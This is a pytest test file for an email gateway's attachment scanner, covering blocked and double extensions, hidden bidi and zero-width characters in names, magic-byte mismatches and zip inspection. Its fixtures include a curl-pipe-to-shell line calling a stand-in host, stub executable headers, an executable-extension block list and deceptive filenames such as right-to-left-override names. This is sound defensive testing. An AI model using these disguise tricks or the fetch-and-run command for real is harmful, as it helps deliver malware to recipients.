"""AttachmentScanner: name rules, type mismatch, zip listings, and that scan() never raises."""

from __future__ import annotations

import base64
import io
import struct
import time
import zipfile
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from menshen.extraction import Extractor
from menshen.model import Attachment, Envelope, ExtractionLimits, Finding, ParsedMessage
from menshen.scanners import attachments
from menshen.scanners.attachments import (
    ATTACHMENT_ARCHIVE_BLOCKED_NAME,
    ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES,
    ATTACHMENT_ARCHIVE_UNREADABLE,
    ATTACHMENT_BLOCKED_EXTENSION,
    ATTACHMENT_DOUBLE_EXTENSION,
    ATTACHMENT_ENCRYPTED_ARCHIVE,
    ATTACHMENT_NAME_CHARACTERS,
    ATTACHMENT_TYPE_MISMATCH,
    DEFAULT_BLOCKED_EXTENSIONS,
    AttachmentRules,
    AttachmentScanner,
    detect_kind,
)
from menshen.scanners.base import Scanner

SCANNER = AttachmentScanner(AttachmentRules())
ENVELOPE = Envelope(sender="a@example.org", recipients=("b@example.net",))

# -- payloads --------------------------------------------------------------------------

PE = b"MZ\x90\x00\x03" + bytes(0x3C - 5) + struct.pack("<I", 0x40) + b"PE\x00\x00" + bytes(64)
DOS_MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(20)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(56)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
GIF = b"GIF89a\x01\x00\x01\x00"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(8)
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(8)
GZIP = b"\x1f\x8b\x08\x00" + bytes(8)
TEXT = b"MZ Corp quarterly notes, nothing to see here.\n"


def make_zip(*members: tuple[str, bytes], stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypt_flag(data: bytes) -> bytes:
    """Set general-purpose bit 0 in every local and central header of a stored zip."""
    out = bytearray(data)
    for magic, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = out.find(magic)
        while pos >= 0:
            (flags,) = struct.unpack_from("<H", out, pos + flag_offset)
            struct.pack_into("<H", out, pos + flag_offset, flags | 1)
            pos = out.find(magic, pos + 4)
    return bytes(out)


DOCX = make_zip(
    ("[Content_Types].xml", b"<Types/>"),
    ("_rels/.rels", b"<Relationships/>"),
    ("docProps/core.xml", b"<cp:coreProperties/>"),
    ("docProps/app.xml", b"<Properties/>"),
    ("word/document.xml", b"<w:document><w:body><w:p/></w:body></w:document>"),
    ("word/_rels/document.xml.rels", b"<Relationships/>"),
    ("word/media/image1.png", PNG),
    ("word/embeddings/oleObject1.bin", OLE2),
    ("word/theme/theme1.xml", b"<a:theme/>"),
)


def attachment(
    filename: str,
    payload: bytes = b"",
    content_type: str = "application/octet-stream",
    part: str = "2",
) -> Attachment:
    return Attachment(part, filename, content_type, len(payload), payload)


def scan(*attachments: Attachment, scanner: AttachmentScanner = SCANNER) -> tuple[Finding, ...]:
    message = ParsedMessage(size=1000, subject="", segments=(), attachments=attachments)
    return scanner.scan(message, ENVELOPE)


def codes(findings: tuple[Finding, ...]) -> set[str]:
    return {f.code for f in findings}


# -- the scanner contract ------------------------------------------------------------------


def test_is_a_scanner_named_attachments() -> None:
    scanner: Scanner = SCANNER
    assert scanner.name == "attachments"


def test_message_without_attachments_has_no_findings() -> None:
    assert scan() == ()


def test_findings_carry_scanner_where_part_and_the_name() -> None:
    (finding,) = scan(attachment("setup.exe", part="1.3"))
    assert finding == Finding(
        scanner="attachments",
        code=ATTACHMENT_BLOCKED_EXTENSION,
        where="attachment_name",
        part="1.3",
        detail='blocked extension .exe: "setup.exe"',
    )


def test_default_list_holds_the_required_extensions() -> None:
    required = {
        *("exe", "scr", "com", "pif", "bat", "cmd", "js", "jse", "vbs", "vbe", "wsf", "wsh"),
        *("hta", "ps1", "psm1", "jar", "msi", "msp", "lnk", "iso", "img", "vhd", "vhdx"),
        *("cpl", "reg", "scf", "chm", "hlp", "application", "appref-ms", "gadget", "inf"),
        *("msc", "dll", "sys", "apk", "app", "dmg", "ace"),
    }
    assert required <= DEFAULT_BLOCKED_EXTENSIONS
    assert not {"zip", "pdf", "docx", "doc", "rar", "7z", "txt"} & DEFAULT_BLOCKED_EXTENSIONS


# -- blocked extensions ----------------------------------------------------------------------

BLOCKED_CASES = {
    "plain_exe": "setup.exe",
    "upper_case": "SETUP.EXE",
    "mixed_case_script": "Update.Js",
    "trailing_dot_windows_ignores": "invoice.exe.",
    "trailing_space_windows_ignores": "invoice.exe ",
    "trailing_dots_and_spaces": "invoice.exe. . ",
    "bidi_override_reversal": "invoice\u202efdp.exe",
    "chinese_name_with_bidi_override": "名单\u202efdp.exe",
    "zero_width_space_inside_extension": "invoice.e\u200bxe",
    "nul_then_harmless_suffix": "invoice.exe\x00.txt",
    "directory_in_name": "C:\\Users\\x\\run.bat",
    "disk_image": "delivery.iso",
    "shortcut": "document.lnk",
    "dotless_hidden_style_name": ".exe",
    "added_excel_addin": "prices.xll",
    "added_internet_shortcut": "portal.url",
}


@pytest.mark.parametrize("name", BLOCKED_CASES.values(), ids=BLOCKED_CASES.keys())
def test_blocked_extension_is_reported(name: str) -> None:
    assert ATTACHMENT_BLOCKED_EXTENSION in codes(scan(attachment(name)))


NOT_BLOCKED_CASES = {
    "pdf": "invoice.pdf",
    "docx": "report.docx",
    "zip": "photos.zip",
    "tarball": "archive.tar.gz",
    "version_number": "v1.2.zip",
    "exe_as_stem_only": "exe",
    "exe_in_the_middle_of_a_word": "examples.txt",
    "no_name": "",
    "extension_like_word_not_last": "setup.exe.zip",
}


@pytest.mark.parametrize("name", NOT_BLOCKED_CASES.values(), ids=NOT_BLOCKED_CASES.keys())
def test_harmless_extension_is_not_blocked(name: str) -> None:
    assert ATTACHMENT_BLOCKED_EXTENSION not in codes(scan(attachment(name)))


def test_operator_extension_list_is_normalised_and_replaces_the_default() -> None:
    scanner = AttachmentScanner(AttachmentRules(blocked_extensions=frozenset({".ZIP", " one"})))
    assert ATTACHMENT_BLOCKED_EXTENSION in codes(scan(attachment("a.zip"), scanner=scanner))
    assert ATTACHMENT_BLOCKED_EXTENSION in codes(scan(attachment("n.ONE"), scanner=scanner))
    assert ATTACHMENT_BLOCKED_EXTENSION not in codes(scan(attachment("a.dll"), scanner=scanner))


# -- double extensions -------------------------------------------------------------------------

DOUBLE_CASES = {
    "pdf_then_exe": "invoice.pdf.exe",
    "jpg_then_js": "scan.jpg.js",
    "docx_padded_with_spaces_then_scr": "report.docx   .scr",
    "upper_case": "INVOICE.PDF.EXE",
    "empty_component_between": "statement.pdf. .exe",
    "trailing_dot_after_exe": "photo.jpeg.exe.",
    "txt_then_vbs": "readme.txt.vbs",
    "bidi_hidden": "invoice.pdf\u202e.exe",
}


@pytest.mark.parametrize("name", DOUBLE_CASES.values(), ids=DOUBLE_CASES.keys())
def test_decoy_then_executable_is_a_double_extension(name: str) -> None:
    assert ATTACHMENT_DOUBLE_EXTENSION in codes(scan(attachment(name)))


NOT_DOUBLE_CASES = {
    "tar_gz": "archive.tar.gz",
    "version_dots": "v1.2.zip",
    "version_dots_exe": "setup-2.4.1.exe",
    "dotted_stem_pdf": "minutes.2024.03.pdf",
    "pdf_then_zip": "scans.pdf.zip",
    "executable_then_document": "readme.exe.txt",
    "single_extension": "setup.exe",
}


@pytest.mark.parametrize("name", NOT_DOUBLE_CASES.values(), ids=NOT_DOUBLE_CASES.keys())
def test_ordinary_dotted_name_is_not_a_double_extension(name: str) -> None:
    assert ATTACHMENT_DOUBLE_EXTENSION not in codes(scan(attachment(name)))


def test_double_extension_still_reported_when_the_executable_extension_is_unblocked() -> None:
    scanner = AttachmentScanner(AttachmentRules(blocked_extensions=frozenset()))
    assert codes(scan(attachment("invoice.pdf.exe"), scanner=scanner)) == {
        ATTACHMENT_DOUBLE_EXTENSION
    }


def test_double_extension_check_can_be_switched_off() -> None:
    scanner = AttachmentScanner(AttachmentRules(check_double_extension=False))
    assert codes(scan(attachment("invoice.pdf.exe"), scanner=scanner)) == {
        ATTACHMENT_BLOCKED_EXTENSION
    }


# -- name characters ---------------------------------------------------------------------------

BAD_CHARACTER_CASES = {
    "right_to_left_override": "invoice\u202efdp.exe",
    "left_to_right_embedding": "a\u202ab.pdf",
    "pop_directional_formatting": "a\u202cb.pdf",
    "right_to_left_isolate": "a\u2067b.pdf",
    "pop_directional_isolate": "a\u2069b.pdf",
    "right_to_left_mark": "a\u200fb.pdf",
    "zero_width_space": "in\u200bvoice.pdf",
    "zero_width_joiner_between_ascii_and_dot": "invoice\u200d.pdf",
    "byte_order_mark": "\ufeffinvoice.pdf",
    "soft_hyphen": "in\u00advoice.pdf",
    "nul": "invoice.pdf\x00.exe",
    "newline": "invoice\n.pdf",
    "escape": "invoice\x1b[8m.pdf",
    "delete": "invoice\x7f.pdf",
    "line_separator": "invoice\u2028.pdf",
}


@pytest.mark.parametrize("name", BAD_CHARACTER_CASES.values(), ids=BAD_CHARACTER_CASES.keys())
def test_hidden_or_control_character_in_name_is_reported(name: str) -> None:
    assert ATTACHMENT_NAME_CHARACTERS in codes(scan(attachment(name)))


GOOD_CHARACTER_CASES = {
    "ascii": "Quarterly report (final).pdf",
    "chinese": "名单.xlsx",
    "persian_with_zero_width_non_joiner": "گزارش\u200cها.pdf",
    "devanagari_with_joiner": "क्\u200dष.docx",
    "emoji_sequence_with_joiner": "team \U0001f468\u200d\U0001f469\u200d\U0001f467.jpg",
    "accented": "Rechnung März.pdf",
    "hebrew_without_controls": "חשבונית.pdf",
}


@pytest.mark.parametrize("name", GOOD_CHARACTER_CASES.values(), ids=GOOD_CHARACTER_CASES.keys())
def test_ordinary_international_name_is_not_reported(name: str) -> None:
    assert scan(attachment(name)) == ()


def test_name_character_detail_lists_code_points_and_escapes_the_name() -> None:
    (finding,) = (
        f for f in scan(attachment("名单\u202efdp.exe")) if f.code == ATTACHMENT_NAME_CHARACTERS
    )
    assert "U+202E" in finding.detail
    assert "\\u202e" in finding.detail
    assert finding.detail.isprintable()


def test_detail_is_printable_and_short_for_a_long_hostile_name() -> None:
    name = "\x00\x1b\u202e" * 50 + "x" * 500 + ".pdf.exe"
    findings = scan(attachment(name))
    assert {ATTACHMENT_BLOCKED_EXTENSION, ATTACHMENT_DOUBLE_EXTENSION} <= codes(findings)
    for finding in findings:
        assert finding.detail.isprintable()
        assert len(finding.detail) <= 100
    blocked = next(f for f in findings if f.code == ATTACHMENT_BLOCKED_EXTENSION)
    assert blocked.detail.endswith('.pdf.exe"')  # the end of the name is kept


def test_huge_hostile_name_is_checked_quickly_by_its_start_and_end() -> None:
    name = "\u200b" + "\u200c" * 200_000 + ".pdf.exe"
    started = time.monotonic()
    findings = scan(attachment(name))
    assert time.monotonic() - started < 1.0
    assert codes(findings) == {
        ATTACHMENT_BLOCKED_EXTENSION,
        ATTACHMENT_DOUBLE_EXTENSION,
        ATTACHMENT_NAME_CHARACTERS,
    }


def test_name_character_check_can_be_switched_off() -> None:
    scanner = AttachmentScanner(AttachmentRules(check_name_characters=False))
    assert scan(attachment("in\u200bvoice.pdf"), scanner=scanner) == ()


# -- magic bytes versus the declared name and type ---------------------------------------------

MISMATCH_CASES: dict[str, tuple[str, str, bytes, str]] = {
    # case: (file name, declared content type, payload, detected kind)
    "pe_named_pdf": ("invoice.pdf", "application/pdf", PE, "pe"),
    "pe_named_docx": ("report.docx", "application/octet-stream", PE, "pe"),
    "pe_named_jpg": ("photo.JPG", "image/jpeg", PE, "pe"),
    "pe_named_txt": ("notes.txt", "text/plain", PE, "pe"),
    "dos_program_named_doc": ("letter.doc", "application/msword", DOS_MZ, "mz"),
    "elf_named_png": ("chart.png", "image/png", ELF, "elf"),
    "macho_named_xlsx": ("figures.xlsx", "application/octet-stream", MACHO, "macho"),
    "script_named_pdf": ("statement.pdf", "application/pdf", SCRIPT, "script"),
    "pe_without_name_declared_image": ("", "image/png", PE, "pe"),
    "pe_without_name_declared_text": ("", "text/plain", PE, "pe"),
    "pe_unknown_extension_declared_pdf": ("scan.dat", "application/pdf", PE, "pe"),
    "rar_named_pdf": ("invoice.pdf", "application/pdf", RAR, "rar"),
    "zip_named_jpg": ("photo.jpg", "image/jpeg", make_zip(("a.txt", b"x")), "zip"),
    "seven_zip_named_png": ("image.png", "image/png", SEVEN_Z, "7z"),
}


@pytest.mark.parametrize(
    ("name", "ctype", "payload", "kind"), MISMATCH_CASES.values(), ids=MISMATCH_CASES.keys()
)
def test_payload_contradicting_the_declared_type_is_a_mismatch(
    name: str, ctype: str, payload: bytes, kind: str
) -> None:
    findings = scan(attachment(name, payload, ctype))
    mismatches = [f for f in findings if f.code == ATTACHMENT_TYPE_MISMATCH]
    assert len(mismatches) == 1
    assert f"detected={kind}" in mismatches[0].detail


MATCHING_TYPE_CASES: dict[str, tuple[str, str, bytes]] = {
    "pdf_named_pdf": ("invoice.pdf", "application/pdf", PDF),
    "png_named_jpg_misnamed_image": ("photo.jpg", "image/jpeg", PNG),
    "jpeg_named_jpeg": ("photo.jpeg", "image/jpeg", JPEG),
    "gif_named_gif": ("anim.gif", "image/gif", GIF),
    "docx_is_a_zip": ("report.docx", "application/octet-stream", DOCX),
    "docx_renamed_doc": ("report.doc", "application/msword", DOCX),
    "ole2_named_doc": ("letter.doc", "application/msword", OLE2),
    "ole2_named_docx_encrypted_ooxml": ("secret.docx", "application/octet-stream", OLE2),
    "ole2_named_msg": ("mail.msg", "application/vnd.ms-outlook", OLE2),
    "zip_named_zip": ("photos.zip", "application/zip", make_zip(("a.jpg", JPEG))),
    "gzip_named_tar_gz": ("src.tar.gz", "application/gzip", GZIP),
    "rar_named_rar": ("backup.rar", "application/x-rar", RAR),
    "script_named_txt_is_text": ("deploy-notes.txt", "text/plain", SCRIPT),
    "script_without_name_declared_text": ("", "text/plain", SCRIPT),
    "script_named_sh": ("install.sh", "text/x-sh", SCRIPT),
    "text_beginning_with_mz": ("notes.txt", "text/plain", TEXT),
    "pe_named_dll_honest_name": ("helper.dll", "application/octet-stream", PE),
    "pe_named_bin": ("firmware.bin", "application/octet-stream", PE),
    "pe_without_name_declared_octet_stream": ("", "application/octet-stream", PE),
    "elf_named_so": ("libfoo.so", "application/octet-stream", ELF),
    "empty_payload_named_pdf": ("empty.pdf", "application/pdf", b""),
}


@pytest.mark.parametrize(
    ("name", "ctype", "payload"), MATCHING_TYPE_CASES.values(), ids=MATCHING_TYPE_CASES.keys()
)
def test_payload_consistent_with_the_declaration_is_not_a_mismatch(
    name: str, ctype: str, payload: bytes
) -> None:
    assert ATTACHMENT_TYPE_MISMATCH not in codes(scan(attachment(name, payload, ctype)))


def test_executable_name_is_judged_by_the_name_rules_not_as_a_mismatch() -> None:
    assert codes(scan(attachment("setup.exe", PE, "image/png"))) == {ATTACHMENT_BLOCKED_EXTENSION}


def test_magic_check_can_be_switched_off() -> None:
    scanner = AttachmentScanner(AttachmentRules(check_magic=False))
    assert scan(attachment("invoice.pdf", PE, "application/pdf"), scanner=scanner) == ()


KIND_CASES = {
    "pe": (PE, "pe"),
    "dos_mz": (DOS_MZ, "mz"),
    "elf": (ELF, "elf"),
    "macho_64": (MACHO, "macho"),
    "macho_universal": (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(8), "macho"),
    "java_class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(8), "java-class"),
    "script": (SCRIPT, "script"),
    "zip": (DOCX, "zip"),
    "pdf": (PDF, "pdf"),
    "png": (PNG, "png"),
    "jpeg": (JPEG, "jpeg"),
    "gif": (GIF, "gif"),
    "ole2": (OLE2, "ole2"),
    "rar": (RAR, "rar"),
    "7z": (SEVEN_Z, "7z"),
    "gzip": (GZIP, "gzip"),
    "text_starting_with_mz": (TEXT, ""),
    "hash_bang_without_path": (b"#!important\n", ""),
    "empty": (b"", ""),
}


@pytest.mark.parametrize(("payload", "kind"), KIND_CASES.values(), ids=KIND_CASES.keys())
def test_magic_bytes_are_recognised(payload: bytes, kind: str) -> None:
    assert detect_kind(payload) == kind


# -- zip archives --------------------------------------------------------------------------------


def archive_findings(payload: bytes, name: str = "files.zip", **rules: int) -> list[Finding]:
    scanner = AttachmentScanner(AttachmentRules(**rules))  # type: ignore[arg-type]
    return list(scan(attachment(name, payload, "application/zip"), scanner=scanner))


ARCHIVE_BAD_MEMBER_CASES = {
    "blocked_member": ("setup.exe", "blocked extension .exe"),
    "blocked_member_in_folder": ("tools/bin/run.BAT", "blocked extension .bat"),
    "double_extension_member": ("docs/invoice.pdf.scr", "double extension .pdf.scr"),
    "bidi_member": ("名单\u202efdp.exe", "hidden or control characters U+202E"),
    "zero_width_member": ("in\u200bvoice.pdf", "hidden or control characters U+200B"),
}


@pytest.mark.parametrize(
    ("member", "reason"), ARCHIVE_BAD_MEMBER_CASES.values(), ids=ARCHIVE_BAD_MEMBER_CASES.keys()
)
def test_zip_member_breaking_a_name_rule_is_reported(member: str, reason: str) -> None:
    findings = archive_findings(make_zip(("readme.txt", b"hi"), (member, b"x")))
    bad = [f for f in findings if f.code == ATTACHMENT_ARCHIVE_BLOCKED_NAME]
    assert bad
    assert all(f.part == "2" and f.where == "attachment_name" for f in bad)
    assert any(f.detail.startswith(reason) for f in bad)


def test_zip_is_recognised_by_magic_whatever_its_name() -> None:
    findings = archive_findings(make_zip(("setup.exe", b"x")), name="holiday photos.dat")
    assert ATTACHMENT_ARCHIVE_BLOCKED_NAME in codes(tuple(findings))


def test_zip_of_ordinary_files_has_no_findings() -> None:
    payload = make_zip(("a/report.pdf", PDF), ("a/", b""), ("b/photo.jpg", JPEG), ("v1.2.txt", b""))
    assert archive_findings(payload) == []


def test_office_document_members_are_not_reported() -> None:
    assert scan(attachment("report.docx", DOCX, "application/octet-stream")) == ()


def test_unicode_path_field_is_checked_as_well_as_the_stored_name() -> None:
    # 7-Zip and WinRAR show the Info-ZIP Unicode Path name, not the stored one.
    unicode_name = b"invoice.exe"
    info = zipfile.ZipInfo("invoice.txt")
    info.extra = struct.pack("<HHBI", 0x7075, 5 + len(unicode_name), 1, 0) + unicode_name
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, b"x")
    findings = archive_findings(buffer.getvalue())
    assert any(
        f.code == ATTACHMENT_ARCHIVE_BLOCKED_NAME and "invoice.exe" in f.detail for f in findings
    )


def test_nested_zip_is_listed_one_level_deep() -> None:
    innermost = make_zip(("deepest.exe", b"x"))
    inner = make_zip(("payload.exe", b"x"), ("deeper.zip", innermost))
    outer = make_zip(("docs/inner.zip", inner), ("readme.txt", b"hi"))
    findings = archive_findings(outer)
    details = [f.detail for f in findings if f.code == ATTACHMENT_ARCHIVE_BLOCKED_NAME]
    assert details == ['blocked extension .exe: "docs/inner.zip/payload.exe"']


def test_stored_nested_zip_is_listed_too() -> None:
    outer = make_zip(("inner.zip", make_zip(("run.js", b"x"))), stored=True)
    assert ATTACHMENT_ARCHIVE_BLOCKED_NAME in codes(tuple(archive_findings(outer)))


def test_more_entries_than_the_limit_is_one_finding() -> None:
    payload = make_zip(*((f"file{i}.txt", b"") for i in range(5)))
    findings = archive_findings(payload, max_archive_entries=3)
    assert [f.code for f in findings] == [ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES]
    assert "more than 3" in findings[0].detail


def test_entries_up_to_the_limit_are_fine() -> None:
    payload = make_zip(*((f"file{i}.txt", b"") for i in range(3)))
    assert archive_findings(payload, max_archive_entries=3) == []


def test_entries_of_a_nested_zip_count_against_the_same_limit() -> None:
    inner = make_zip(*((f"n{i}.txt", b"") for i in range(3)))
    outer = make_zip(("inner.zip", inner), ("a.txt", b""))
    assert codes(tuple(archive_findings(outer, max_archive_entries=4))) == {
        ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES
    }


def test_end_record_understating_the_entry_count_does_not_hide_entries() -> None:
    payload = bytearray(make_zip(*((f"file{i}.txt", b"") for i in range(5))))
    eocd = payload.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", payload, eocd + 8, 1, 1)
    findings = archive_findings(bytes(payload), max_archive_entries=3)
    assert codes(tuple(findings)) == {ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES}


def test_blocked_members_beyond_a_few_are_summed_up() -> None:
    payload = make_zip(*((f"tool{i}.exe", b"") for i in range(25)))
    bad = [f for f in archive_findings(payload) if f.code == ATTACHMENT_ARCHIVE_BLOCKED_NAME]
    assert len(bad) == 10
    assert bad[-1].count == 16
    assert sum(f.count for f in bad) == 25


_SMALL_ZIP = make_zip(("a.txt", b"hello"))
# The end record is the last 22 bytes: size and offset of the directory at 12..20.
CORRUPT_ZIP_CASES = {
    "magic_then_garbage": b"PK\x03\x04" + b"\x00garbage" * 20,
    "central_directory_cut_off": make_zip(("a.txt", b"hello"))[:-30],
    "end_record_pointing_outside": _SMALL_ZIP[:-10] + struct.pack("<II", 0xFFFFFF, 0) + b"\0\0",
}


@pytest.mark.parametrize("payload", CORRUPT_ZIP_CASES.values(), ids=CORRUPT_ZIP_CASES.keys())
def test_corrupt_zip_is_unreadable(payload: bytes) -> None:
    findings = archive_findings(payload)
    assert ATTACHMENT_ARCHIVE_UNREADABLE in codes(tuple(findings))


def test_zip_cut_short_by_the_extraction_limit_says_so() -> None:
    payload = make_zip(("a.txt", b"hello" * 100))[:40]
    findings = scan(Attachment("2", "files.zip", "application/zip", 10_000, payload))
    (finding,) = findings
    assert finding.code == ATTACHMENT_ARCHIVE_UNREADABLE
    assert "decoded-bytes limit" in finding.detail


def test_encrypted_member_makes_an_encrypted_archive() -> None:
    payload = encrypt_flag(make_zip(("secret.txt", b"hello"), ("more.txt", b"x"), stored=True))
    with zipfile.ZipFile(io.BytesIO(payload)) as check:  # the crafted flag is what zipfile sees
        assert all(info.flag_bits & 1 for info in check.infolist())
    findings = archive_findings(payload)
    assert [f.code for f in findings] == [ATTACHMENT_ENCRYPTED_ARCHIVE]
    assert findings[0].count == 2
    assert "secret.txt" in findings[0].detail


def test_encrypted_nested_zip_member_is_reported_and_not_opened() -> None:
    inner = encrypt_flag(make_zip(("x.txt", b"x"), stored=True))
    outer = make_zip(("inner.zip", inner))
    assert codes(tuple(archive_findings(outer))) == {ATTACHMENT_ENCRYPTED_ARCHIVE}


def test_archive_inspection_can_be_switched_off() -> None:
    scanner = AttachmentScanner(AttachmentRules(inspect_archives=False))
    payload = make_zip(("setup.exe", b"x"))
    assert scan(attachment("files.zip", payload), scanner=scanner) == ()


def test_zip_with_prepended_data_is_still_listed() -> None:
    # Offsets in the directory are relative to the archive, not to the attachment's start.
    payload = b"PK\x03\x04 junk before the archive" + make_zip(("setup.exe", b"x"))
    assert codes(scan(attachment("x.bin", payload))) == {ATTACHMENT_ARCHIVE_BLOCKED_NAME}


def test_every_attachment_is_scanned_and_reported_under_its_own_part() -> None:
    findings = scan(
        attachment("a.pdf", PDF, part="2"),
        attachment("b.exe", part="3"),
        attachment("c.zip", make_zip(("d.js", b"")), part="4.1"),
    )
    assert {(f.code, f.part) for f in findings} == {
        (ATTACHMENT_BLOCKED_EXTENSION, "3"),
        (ATTACHMENT_ARCHIVE_BLOCKED_NAME, "4.1"),
    }


# -- end to end through the extractor ------------------------------------------------------------


def mime(*parts: bytes) -> bytes:
    head = (
        b"From: Sender <a@example.org>\r\nTo: b@example.net\r\nSubject: documents\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=BOUNDARY\r\n\r\n"
        b"--BOUNDARY\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nsee attached\r\n"
    )
    body = b"".join(b"--BOUNDARY\r\n" + p + b"\r\n" for p in parts)
    return head + body + b"--BOUNDARY--\r\n"


def file_part(headers: str, payload: bytes) -> bytes:
    encoded = base64.encodebytes(payload).replace(b"\n", b"\r\n")
    return headers.encode() + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + encoded


def extracted_findings(raw: bytes) -> tuple[Finding, ...]:
    message = Extractor(ExtractionLimits()).extract(raw)
    return SCANNER.scan(message, ENVELOPE)


END_TO_END_CASES: dict[str, tuple[bytes, set[str]]] = {
    "rfc2231_encoded_double_extension": (
        mime(
            file_part(
                "Content-Type: application/pdf\r\n"
                "Content-Disposition: attachment; filename*=utf-8''invoice.pdf.exe",
                PE,
            )
        ),
        {ATTACHMENT_BLOCKED_EXTENSION, ATTACHMENT_DOUBLE_EXTENSION},
    ),
    "rfc2231_continuations": (
        mime(
            file_part(
                "Content-Type: application/octet-stream\r\n"
                "Content-Disposition: attachment;\r\n filename*0*=utf-8''invoice.pd;\r\n"
                " filename*1*=f.%20%20.scr",
                b"data",
            )
        ),
        {ATTACHMENT_BLOCKED_EXTENSION, ATTACHMENT_DOUBLE_EXTENSION},
    ),
    "rfc2231_chinese_name_with_bidi_override": (
        mime(
            file_part(
                "Content-Type: application/octet-stream\r\n"
                "Content-Disposition: attachment; filename*=utf-8''"
                + quote("名单\u202efdp.exe".encode()),
                PE,
            )
        ),
        {ATTACHMENT_BLOCKED_EXTENSION, ATTACHMENT_NAME_CHARACTERS},
    ),
    "rfc2047_name_on_content_type_only": (
        mime(
            file_part(
                'Content-Type: application/octet-stream; name="=?utf-8?B?'
                + base64.b64encode("发票.pdf.js".encode()).decode()
                + '?="',
                b"var x;",
            )
        ),
        {ATTACHMENT_BLOCKED_EXTENSION, ATTACHMENT_DOUBLE_EXTENSION},
    ),
    "executable_disguised_as_pdf": (
        mime(
            file_part(
                'Content-Type: application/pdf; name="invoice.pdf"\r\n'
                'Content-Disposition: attachment; filename="invoice.pdf"',
                PE,
            )
        ),
        {ATTACHMENT_TYPE_MISMATCH},
    ),
    "zip_with_blocked_member": (
        mime(
            file_part(
                'Content-Type: application/zip; name="docs.zip"',
                make_zip(("invoice.pdf.exe", b"x")),
            )
        ),
        {ATTACHMENT_ARCHIVE_BLOCKED_NAME},
    ),
    "encrypted_zip": (
        mime(
            file_part(
                'Content-Type: application/zip; name="docs.zip"',
                encrypt_flag(make_zip(("invoice.pdf", PDF), stored=True)),
            )
        ),
        {ATTACHMENT_ENCRYPTED_ARCHIVE},
    ),
    "ordinary_docx_and_pdf": (
        mime(
            file_part(
                "Content-Type: application/vnd.openxmlformats-officedocument."
                'wordprocessingml.document; name="report.docx"',
                DOCX,
            ),
            file_part('Content-Type: application/pdf; name="invoice.pdf"', PDF),
        ),
        set(),
    ),
}


@pytest.mark.parametrize(
    ("raw", "expected"), END_TO_END_CASES.values(), ids=END_TO_END_CASES.keys()
)
def test_message_through_the_extractor(raw: bytes, expected: set[str]) -> None:
    findings = extracted_findings(raw)
    assert codes(findings) == expected
    assert all(f.part in {"2", "3"} for f in findings)


# -- never raises ----------------------------------------------------------------------------------

_ZIP_SEEDS = (
    make_zip(("a.txt", b"x"), ("b/c.exe", b"y")),
    make_zip(("inner.zip", make_zip(("x.js", b""))), stored=True),
    DOCX,
)


@st.composite
def payloads(draw: st.DrawFn) -> bytes:
    choice = draw(st.integers(0, 3))
    if choice == 0:
        return draw(st.binary(max_size=300))
    if choice == 1:
        return b"PK\x03\x04" + draw(st.binary(max_size=300))
    seed = bytearray(draw(st.sampled_from(_ZIP_SEEDS)))
    # Corrupt a few bytes of a real zip: the headers are where the parser can go wrong.
    for _ in range(draw(st.integers(1, 8))):
        pos = draw(st.integers(0, len(seed) - 1))
        seed[pos] = draw(st.integers(0, 255))
    if choice == 3:
        seed = seed[: draw(st.integers(0, len(seed)))]
    return bytes(seed)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.text(max_size=80), ctype=st.text(max_size=30), payload=payloads())
def test_scan_never_raises(name: str, ctype: str, payload: bytes) -> None:
    findings = scan(attachment(name, payload, ctype))
    for finding in findings:
        assert finding.scanner == "attachments"
        assert finding.detail.isprintable()
        assert len(finding.detail) <= 100
        assert finding.code != "INTERNAL_ERROR"


@settings(max_examples=500, deadline=None)
@given(
    st.text(
        alphabet=st.one_of(
            st.characters(),
            st.sampled_from("\u202e\u200b\u200d\x00\t\x7f./\\ .exe"),
        ),
        max_size=40,
    )
)
def test_visible_forms_skips_no_character_that_matters(name: str) -> None:
    # The printable shortcut gives what looking at every character gives.
    base = attachments._last_component(name)
    assert attachments._visible_forms(name) == attachments._forms_without_hidden(base)
